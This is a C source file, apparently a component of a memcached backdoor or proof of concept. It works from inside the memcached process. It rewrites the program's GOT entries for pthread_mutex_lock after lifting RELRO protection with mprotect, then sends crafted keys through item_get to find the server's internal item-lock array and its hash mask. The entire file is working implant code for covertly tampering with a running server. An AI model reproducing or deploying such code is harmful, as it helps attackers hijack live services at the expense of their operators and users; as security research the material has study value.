/*
 * Where the locks of items are, by experiment in the proof's child.
 *
 * item_get locks the item's lock before anything else (thread.c: item_get, item_lock):
 * item_locks[hv & hashmask(item_lock_hashpower)].  For keys whose hashes are known we
 * see which lock that is, and the array and its size follow: no other array and size
 * has all of them where they were.
 *
 * To see it, the program's own reference to pthread_mutex_lock is replaced, in the child.
 */
#define _GNU_SOURCE
#include "locks.h"

#include "table.h"

#include <elf.h>
#include <link.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <unistd.h>

#define KEYS 32

/* thread.c: memcached_thread_init has 10 to 15; what -t could make of it later is no matter. */
#define POWER_MIN 1
#define POWER_MAX 24

#if defined __x86_64__
#define JUMP_SLOT R_X86_64_JUMP_SLOT
#define GLOB_DAT R_X86_64_GLOB_DAT
#elif defined __aarch64__
#define JUMP_SLOT R_AARCH64_JUMP_SLOT
#define GLOB_DAT R_AARCH64_GLOB_DAT
#endif

static pthread_mutex_t *first; /* that was locked since it was set to NULL */

static int note_lock(pthread_mutex_t *mutex) {
    if (first == NULL) {
        first = mutex;
    }
    return pthread_mutex_lock(mutex);
}

/* The program's dynamic section, as its loader has relocated it. */
static struct {
    uintptr_t bias;
    const ElfW(Sym) * symbols;
    const char *strings;
    const ElfW(Rela) * rela, *jmprel;
    size_t nrela, njmprel;
} program;

static bool read_dynamic(void) {
    const ElfW(Phdr) *phdr = (const ElfW(Phdr) *)getauxval(AT_PHDR);
    size_t n = getauxval(AT_PHNUM);
    const ElfW(Dyn) *dynamic = NULL;
    for (size_t i = 0; i < n; i++) {
        if (phdr[i].p_type == PT_PHDR) {
            program.bias = (uintptr_t)phdr - phdr[i].p_vaddr;
        }
    }
    for (size_t i = 0; i < n; i++) {
        if (phdr[i].p_type == PT_DYNAMIC) {
            dynamic = (const ElfW(Dyn) *)(program.bias + phdr[i].p_vaddr);
        }
    }
    for (const ElfW(Dyn) *d = dynamic; d != NULL && d->d_tag != DT_NULL; d++) {
        uintptr_t address = d->d_un.d_ptr; /* glibc has relocated it in place */
        switch (d->d_tag) {
        case DT_SYMTAB:
            program.symbols = (const ElfW(Sym) *)address;
            break;
        case DT_STRTAB:
            program.strings = (const char *)address;
            break;
        case DT_RELA:
            program.rela = (const ElfW(Rela) *)address;
            break;
        case DT_RELASZ:
            program.nrela = d->d_un.d_val / sizeof(ElfW(Rela));
            break;
        case DT_JMPREL:
            program.jmprel = (const ElfW(Rela) *)address;
            break;
        case DT_PLTRELSZ:
            program.njmprel = d->d_un.d_val / sizeof(ElfW(Rela));
            break;
        }
    }
    return program.symbols != NULL && program.strings != NULL;
}

/* Makes the references to name among relocations lead to function; answers how many. */
static unsigned redirect(const ElfW(Rela) * relocations, size_t n, const char *name,
                         uintptr_t function) {
    unsigned redirected = 0;
    uintptr_t page = (uintptr_t)sysconf(_SC_PAGESIZE);
    for (size_t i = 0; relocations != NULL && i < n; i++) {
        unsigned type = ELF64_R_TYPE(relocations[i].r_info);
        const ElfW(Sym) *symbol = &program.symbols[ELF64_R_SYM(relocations[i].r_info)];
        if ((type != JUMP_SLOT && type != GLOB_DAT) ||
            strcmp(program.strings + symbol->st_name, name) != 0) {
            continue;
        }
        uintptr_t *slot = (uintptr_t *)(program.bias + relocations[i].r_offset);
        void *at = (void *)((uintptr_t)slot & ~(page - 1));
        if (mprotect(at, page, PROT_READ | PROT_WRITE) != 0) { /* RELRO */
            return 0;
        }
        *slot = function;
        redirected++;
    }
    return redirected;
}

/* Whether the locks are those of an array of 2^power; sets array. */
static bool is_array(pthread_mutex_t *const *locks, const uint32_t *hvs, unsigned power,
                     uintptr_t *array) {
    uint32_t mask = (UINT32_C(1) << power) - 1;
    *array = (uintptr_t)locks[0] - (hvs[0] & mask) * sizeof(pthread_mutex_t);
    for (unsigned i = 1; i < KEYS; i++) {
        if ((uintptr_t)locks[i] - (hvs[i] & mask) * sizeof(pthread_mutex_t) != *array) {
            return false;
        }
    }
    return true;
}

bool locate_locks(struct backdoor_worker *worker, uint64_t *array, uint32_t *mask) {
    uintptr_t function = (uintptr_t)note_lock;
    if (mc_functions.hash == 0 || !read_dynamic() ||
        redirect(program.jmprel, program.njmprel, "pthread_mutex_lock", function) +
                redirect(program.rela, program.nrela, "pthread_mutex_lock", function) ==
            0) {
        return false;
    }
    pthread_mutex_t *locks[KEYS];
    uint32_t hvs[KEYS];
    for (unsigned i = 0; i < KEYS; i++) {
        char key[64];
        int nkey = snprintf(key, sizeof key, "memcached-backdoor:locks:%u", i);
        hvs[i] = (*(hash_fn **)mc_functions.hash)(key, (size_t)nkey);
        first = NULL;
        if (mc_item_get(key, (size_t)nkey, worker) != NULL || first == NULL) {
            return false;
        }
        locks[i] = first;
    }
    unsigned found = 0;
    for (unsigned power = POWER_MIN; power <= POWER_MAX; power++) {
        uintptr_t at;
        if (is_array(locks, hvs, power, &at)) {
            *array = at;
            *mask = (UINT32_C(1) << power) - 1;
            found++;
        }
    }
    return found == 1;
}
